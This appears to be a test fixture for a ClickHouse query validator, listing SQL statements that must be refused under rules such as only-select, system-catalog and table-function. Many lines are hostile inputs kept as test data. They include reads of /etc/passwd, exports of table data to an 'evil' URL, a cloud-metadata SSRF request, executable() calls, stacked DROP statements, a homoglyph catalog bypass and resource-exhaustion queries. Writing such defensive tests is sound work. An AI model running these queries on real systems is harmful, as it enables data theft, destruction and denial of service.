-- One statement a line, under the rule that refuses it; \n is a line break. Every one must be refused, with and without a catalog.

-- rule: not-allowed
SELECT * FROM orders ARRAY JOIN (SELECT groupArray(name) FROM system.users) AS x
SELECT * FROM values('a String DEFAULT file(1)', ('x'))
SELECT id FROM orders SETTINGS max_execution_time = 0
SELECT id FROM orders FORMAT CSV
SELECT id FROM orders SAMPLE 0.1
SELECT {x:UInt8}
SELECT ?
SELECT COLUMNS('.*') FROM orders

-- rule: one-statement
SELECT 1; DROP TABLE orders
SELECT 1; SELECT 2

-- rule: only-select
INSERT INTO orders VALUES (1)
INSERT INTO FUNCTION url('http://evil', CSV, 'a String') SELECT * FROM orders
INSERT INTO FUNCTION file('x.csv') SELECT 1
ALTER TABLE orders DELETE WHERE 1
ALTER TABLE orders UPDATE amount = 0 WHERE 1
DELETE FROM orders WHERE 1
TRUNCATE TABLE orders
CREATE TABLE copied ENGINE = Memory AS SELECT * FROM orders
CREATE TABLE x (a Int) ENGINE = URL('http://evil', CSV)
DROP TABLE orders
RENAME TABLE orders TO gone
EXCHANGE TABLES orders AND users
OPTIMIZE TABLE orders FINAL
ATTACH TABLE orders
DETACH TABLE orders
SYSTEM SHUTDOWN
SYSTEM RELOAD CONFIG
SYSTEM FLUSH LOGS
SET max_execution_time = 0
USE system
SHOW TABLES
SHOW CREATE TABLE orders
DESCRIBE TABLE orders
DESCRIBE url('http://evil')
EXPLAIN SELECT 1
GRANT ALL ON *.* TO x
CREATE USER x
WATCH live_view
KILL QUERY WHERE 1
EXISTS TABLE orders
CHECK TABLE orders
BACKUP TABLE orders TO File('/tmp/x')
RESTORE TABLE orders FROM File('/tmp/x')

-- rule: qualified-call
SELECT default.my_function(1)

-- rule: session-value
SELECT _path FROM orders

-- rule: syntax
SELECT d FROM t ORDER BY d WITH FILL FROM toDate('2024-01-01') TO toDate('2024-02-01') STEP 1 STALENESS 1
SELECT id FROM orders INTO OUTFILE '/tmp/x'
SELECT id FROM orders INTO OUTFILE '/tmp/x' FORMAT CSV
SELECT id FROM orders WHERE id = (

-- rule: system-catalog
SELECT (SELECT count() FROM system.users)
WITH x AS (SELECT * FROM system.users) SELECT * FROM x
SELECT * FROM (SELECT * FROM system.users)
SELECT * FROM SYSTEM.tables
SELECT * FROM ſystem.tables
SELECT * FROM "system"."tables"
SELECT * FROM system . tables
SELECT * FROM orders o LEFT JOIN system.users u ON 1
SELECT * FROM system.tables
SELECT * FROM system.users
SELECT * FROM system.query_log
SELECT * FROM `system`.`settings`
SELECT number FROM system.numbers
SELECT * FROM information_schema.tables
SELECT * FROM INFORMATION_SCHEMA.COLUMNS

-- rule: table-function
SELECT * FROM format(JSONEachRow, '{}')
SELECT * FROM file('/etc/passwd', 'LineAsString')
SELECT * FROM file('/etc/passwd')
SELECT * FROM url('http://evil/x.csv', CSV)
SELECT * FROM url('http://169.254.169.254/latest/meta-data', RawBLOB)
SELECT * FROM s3('https://bucket/x.parquet')
SELECT * FROM s3Cluster('c', 'https://bucket/x.parquet')
SELECT * FROM gcs('https://bucket/x')
SELECT * FROM azureBlobStorage('x', 'y', 'z')
SELECT * FROM hdfs('hdfs://x', 'CSV')
SELECT * FROM remote('127.0.0.2', system.one)
SELECT * FROM remoteSecure('127.0.0.2', system.one)
SELECT * FROM cluster('default', system.one)
SELECT * FROM clusterAllReplicas('default', system.one)
SELECT * FROM mysql('host:3306', 'db', 'table', 'user', 'password')
SELECT * FROM postgresql('host:5432', 'db', 'table', 'user', 'password')
SELECT * FROM mongodb('host', 'db', 'c', 'u', 'p', 'x Int')
SELECT * FROM redis('host', 'k', 'k Int')
SELECT * FROM sqlite('x.db', 'table')
SELECT * FROM jdbc('x', 'y')
SELECT * FROM odbc('DSN=x', 'y')
SELECT * FROM executable('script.sh', 'TSV', 'a String')
SELECT * FROM input('a Int')
SELECT * FROM merge('default', '.*')
SELECT * FROM merge('.*')
SELECT * FROM view(SELECT 1)
SELECT * FROM generateRandom('a Int')
SELECT * FROM null('a Int')
SELECT * FROM iceberg('s3://x')
SELECT * FROM deltaLake('s3://x')
SELECT * FROM hudi('s3://x')
SELECT * FROM loop(system.one)
SELECT * FROM mergeTreeIndex('default', 'orders')
SELECT * FROM fuzzJSON('{}')

-- rule: two-readings
SELECT 'a' 'b'

-- rule: unbounded-recursion
WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r) SELECT n FROM r

-- rule: unbounded-series
SELECT * FROM generate_series(1, 10000000000)
SELECT * FROM numbers(10, 100000000000)
SELECT d FROM t ORDER BY d WITH FILL FROM toDate('2024-01-01') TO toDate('2024-02-01') STEP 0
SELECT d FROM t ORDER BY d WITH FILL FROM toDate('2024-01-01') TO toDate('2024-02-01') STEP 0.000001
SELECT d FROM t ORDER BY d WITH FILL FROM 1 TO 10000000000
SELECT d FROM t ORDER BY d WITH FILL FROM toDateTime('2000-01-01') TO toDateTime('2024-01-01') STEP 1
SELECT d FROM t ORDER BY d WITH FILL FROM toDate('0001-01-01') TO toDate('9999-12-31') STEP 1
SELECT d FROM t ORDER BY d WITH FILL STEP 1
SELECT * FROM numbers(10000000000)
SELECT * FROM numbers((SELECT max(id) FROM orders))
SELECT * FROM zeros(10000000000)
SELECT range(10000000000)
SELECT range(id) FROM orders
SELECT day FROM orders ORDER BY day WITH FILL FROM 0 TO 1000000000 STEP 1
SELECT day FROM orders ORDER BY day WITH FILL

-- rule: unbounded-text
SELECT repeat('x', 1000000000)
SELECT repeat('x', id) FROM orders
SELECT space(1000000000)
SELECT leftPad('x', 1000000000)
SELECT arrayWithConstant(1000000000, 1)
SELECT arrayResize([1], 1000000000)
SELECT toFixedString('x', 100000000)
SELECT CAST('x' AS FixedString(100000000))

-- rule: unknown-function
SELECT CAST(1 AS DateTime('UTC')), hostName()
SELECT * FROM values('a String', (file('/etc/passwd')))
SELECT arrayMap(x -> file(x), ['/etc/passwd'])
SELECT arrayMap(x -> sleep(3), [1])
SELECT * FROM dictionary('d')
SELECT file('/etc/passwd')
SELECT sleep(3)
SELECT sleepEachRow(3) FROM orders
SELECT currentUser()
SELECT user()
SELECT currentDatabase()
SELECT hostName()
SELECT version()
SELECT uptime()
SELECT getSetting('max_threads')
SELECT getMacro('replica')
SELECT getServerPort('tcp_port')
SELECT tcpPort()
SELECT serverUUID()
SELECT queryID()
SELECT filesystemAvailable()
SELECT dictGet('d', 'a', 1)
SELECT dictGetOrDefault('d', 'a', 1, 0)
SELECT joinGet('j', 'a', 1)
SELECT catboostEvaluate('/model', 1)
SELECT addressToLine(1)
SELECT demangle('x')
SELECT generateUUIDv4()
SELECT randomString(1000000000)
SELECT fuzzBits('x', 0.1)
SELECT throwIf(1)
SELECT ignore(sleep(3))
SELECT my_function(1)
